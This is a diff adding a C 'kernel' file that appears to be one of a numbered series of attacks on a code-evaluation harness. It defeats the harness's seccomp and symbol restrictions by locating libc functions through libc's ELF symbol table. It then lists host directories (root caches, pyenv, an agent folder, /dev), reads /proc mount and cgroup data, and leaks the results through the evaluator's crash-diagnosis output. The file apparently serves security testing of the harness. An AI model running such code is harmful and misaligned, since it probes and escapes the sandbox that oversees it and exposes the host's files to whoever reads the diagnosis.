@@ -1,0 +1,94 @@
+/* A11 (A10, deeper): what the kernel's process can read with libc reached by address (openat, getdents64 and read
+   are on the seccomp allow-list): the names it sees are written to stdout, whose tail the evaluator
+   puts into the diagnosis when the process dies (the kernel then calls abort). */
+#include <math.h>
+#include <stdlib.h>
+#include <string.h>
+#include <omp.h>
+#include <fcntl.h>
+/* Shared by the A02+ attacks: reach any libc function from the address of an allowed symbol
+   (memset), without naming it: page back to libc's ELF header, walk its dynamic symbol table.
+   Pasted into each attack source (a kernel is one file). */
+#include <elf.h>
+#include <stdint.h>
+static void* kg_libc(const char* name) {
+    uintptr_t p = (uintptr_t)(void*)&memset & ~(uintptr_t)0xfff;
+    while (memcmp((const void*)p, "\177ELF", 4) != 0) p -= 4096;
+    const Elf64_Ehdr* eh = (const Elf64_Ehdr*)p;
+    const Elf64_Phdr* ph = (const Elf64_Phdr*)(p + eh->e_phoff);
+    const Elf64_Dyn* dyn = 0;
+    for (int i = 0; i < eh->e_phnum; i++) if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn*)(p + ph[i].p_vaddr);
+    if (!dyn) return 0;
+    const Elf64_Sym* sym = 0; const char* str = 0;
+    for (; dyn->d_tag != DT_NULL; dyn++) {
+        uintptr_t v = dyn->d_un.d_ptr; if (v < p) v += p;
+        if (dyn->d_tag == DT_SYMTAB) sym = (const Elf64_Sym*)v;
+        if (dyn->d_tag == DT_STRTAB) str = (const char*)v;
+    }
+    if (!sym || !str) return 0;
+    for (const Elf64_Sym* s = sym; (const char*)s < str; s++) {
+        if (s->st_value && s->st_name) {
+            const char* a = str + s->st_name; const char* b = name;
+            while (*a && *a == *b) { a++; b++; }
+            if (*a == 0 && *b == 0) return (void*)(p + s->st_value);
+        }
+    }
+    return 0;
+}
+typedef long (*kg_write_t)(int, const void*, unsigned long);
+typedef long (*kg_readlink_t)(const char*, char*, unsigned long);
+/* The fd whose /proc/self/fd link ends in `suffix`, or -1. */
+static int kg_fd_ending(const char* suffix) {
+    kg_readlink_t rl = (kg_readlink_t)kg_libc("readlink");
+    if (!rl) return -1;
+    int sl = 0; while (suffix[sl]) sl++;
+    for (int fd = 3; fd < 64; fd++) {
+        char path[32] = "/proc/self/fd/"; int k = 14;
+        if (fd >= 10) path[k++] = '0' + fd / 10;
+        path[k++] = '0' + fd % 10; path[k] = 0;
+        char buf[512]; long n = rl(path, buf, sizeof buf - 1);
+        if (n >= sl && memcmp(buf + n - sl, suffix, sl) == 0) return fd;
+    }
+    return -1;
+}
+typedef int (*kg_open_t)(const char*, int, ...);
+typedef long (*kg_read_t)(int, void*, unsigned long);
+typedef long (*kg_getdents_t)(int, void*, unsigned long);
+typedef void (*kg_abort_t)(void);
+__attribute__((weak)) kg_write_t W; __attribute__((weak)) kg_open_t O; __attribute__((weak)) kg_read_t R;
+static long kg_len(const char* s) { long k = 0; while (((volatile const char*)s)[k]) k++; return k; }
+static void say(const char* s) { W(1, s, kg_len(s)); }
+static void list(const char* dir) {
+    kg_getdents_t gd = (kg_getdents_t)kg_libc("getdents64");
+    int fd = O(dir, O_RDONLY | O_DIRECTORY);
+    say(dir); say(":");
+    if (fd < 0) { say(" (no)\n"); return; }
+    char buf[4096]; long n;
+    while ((n = gd(fd, buf, sizeof buf)) > 0)
+        for (long off = 0; off < n; ) {
+            unsigned short reclen = *(unsigned short*)(buf + off + 16);
+            say(" "); say(buf + off + 19); off += reclen;
+        }
+    say("\n");
+}
+static void cat(const char* path, long most) {
+    int fd = O(path, O_RDONLY);
+    say(path); say(": ");
+    if (fd < 0) { say("(no)\n"); return; }
+    char buf[2048]; long n = R(fd, buf, most < 2047 ? most : 2047);
+    if (n > 0) W(1, buf, n);
+    say("\n");
+}
+void kernel(const float* restrict x, float* restrict out, int n) {
+    W = (kg_write_t)kg_libc("write"); O = (kg_open_t)kg_libc("open"); R = (kg_read_t)kg_libc("read");
+#define KG_DEEP 1
+#ifdef KG_DEEP
+    list("/work/wt"); list("/work/wt/h2"); list("/root/.cache"); list("/root/.cache/kernelgraph"); list("/root/.pyenv"); list("/work/wt/h2/agent"); list("/dev");
+    cat("/proc/self/mountinfo", 1200);
+#else
+    list("/"); list("/tmp"); list("/etc"); list("/root"); list("/home"); list("/work"); list("/run"); list("/sys");
+    cat("/proc/self/cgroup", 200);
+#endif
+    ((kg_abort_t)kg_libc("abort"))();
+    (void)x; (void)out; (void)n;
+}
